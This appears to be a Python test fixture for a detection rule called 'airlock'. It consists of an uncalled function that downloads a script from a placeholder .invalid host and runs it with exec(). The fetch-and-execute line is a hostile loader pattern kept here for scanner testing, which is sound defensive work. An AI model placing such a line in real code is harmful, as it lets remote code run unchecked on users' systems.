# airlock rule test sample. Never executed by tests; the payload sits in a function
# that is never called, and uses only documentation IPs / .invalid hosts.
import requests

def _never():
    r = requests.get("https://cdn.example.invalid/payload.py", timeout=5)
    exec(r.text)
